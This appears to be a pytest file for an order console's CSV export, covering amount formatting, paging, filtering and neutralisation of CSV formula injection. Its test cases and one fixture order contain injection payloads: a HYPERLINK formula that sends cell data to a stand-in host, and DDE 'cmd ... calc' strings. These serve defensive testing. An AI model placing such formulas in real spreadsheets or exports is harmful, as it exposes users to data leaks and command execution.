"""Exporting search results to CSV: every page, amounts as plain decimals, written atomically."""

from __future__ import annotations

import csv

import pytest
from klarna_console.services.export import decimal_amount, export_orders, spreadsheet_safe
from klarna_console.store import SearchQuery

from .conftest import World


def test_decimal_amounts_follow_the_currency():
    assert decimal_amount(123450, "EUR") == "1234.50"
    assert decimal_amount(-5, "SEK") == "-0.05"
    assert decimal_amount(1500, "JPY") == "1500"
    assert decimal_amount(None, "EUR") == ""


async def test_every_page_of_the_query_is_written(world: World, tmp_path, monkeypatch):
    from klarna_console.services import export

    monkeypatch.setattr(export, "PAGE", 7)  # several pages out of the 40 demo orders
    seen: list[tuple[int, int]] = []
    target = tmp_path / "out.csv"
    target.write_text("an older export\n", encoding="utf-8")
    count = await export_orders(world.store, SearchQuery(), target, lambda done, total: seen.append((done, total)))
    rows = list(csv.DictReader(target.read_text(encoding="utf-8-sig").splitlines()))
    assert count == len(rows) == 40 and seen[-1] == (40, 40) and len(seen) == 6
    assert {r["order_id"] for r in rows} == set(world.sandbox.order_ids)
    some = world.sandbox.order(rows[0]["order_id"])
    assert rows[0]["order_amount"] == decimal_amount(some.order_amount, some.purchase_currency)
    assert rows[0]["currency"] == some.purchase_currency.upper()
    assert not (tmp_path / "out.csv.partial").exists()


async def test_a_filter_is_respected(world: World, tmp_path):
    count = await export_orders(world.store, SearchQuery(statuses=("CANCELLED",)), tmp_path / "c.csv")
    rows = list(csv.DictReader((tmp_path / "c.csv").read_text(encoding="utf-8-sig").splitlines()))
    assert count == len(rows) > 0 and {r["status"] for r in rows} == {"CANCELLED"}


# OWASP "CSV Injection": a cell starting with = + - @, tab or carriage return is run as a formula by
# spreadsheet programs. Names, addresses and references are typed by shoppers.
@pytest.mark.parametrize(("cell", "written"), [
    ('=HYPERLINK("http://x.example/?"&A1,"Refund")', '\'=HYPERLINK("http://x.example/?"&A1,"Refund")'),
    ("+46 70 123 45 67", "'+46 70 123 45 67"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Ann-Marie =Ek", "Ann-Marie =Ek"),
    ("", ""),
])
def test_cells_a_spreadsheet_would_run_get_a_leading_apostrophe(cell, written):
    assert spreadsheet_safe(cell) == written


@pytest.mark.parametrize("number", ["-12.50", "-0.05", "+5", "-1500", "1234.50"])
def test_a_plain_number_stays_a_number(number):
    # It cannot run as a formula, and with an apostrophe a refund's negative amount would no longer add up.
    assert spreadsheet_safe(number) == number


async def test_an_export_neutralises_what_shoppers_typed_and_keeps_negative_amounts(world: World, tmp_path):
    from fixtures.store import make_order

    order = make_order(order_id="evil-1", given="=cmd|' /C calc'!A0", family="@Evil", email="-x@example.com",
                       klarna_reference="+SUM(1)", order_amount=1250, refunded_amount=-500)
    await world.store.upsert_orders([order])
    await export_orders(world.store, SearchQuery(text="evil-1"), tmp_path / "x.csv")
    (row,) = list(csv.DictReader((tmp_path / "x.csv").read_text(encoding="utf-8-sig").splitlines()))
    assert row["customer_name"] == "'=cmd|' /C calc'!A0 @Evil"
    assert row["email"] == "'-x@example.com" and row["klarna_reference"] == "'+SUM(1)"
    assert row["refunded_amount"] == decimal_amount(-500, order.purchase_currency) == "-5.00"
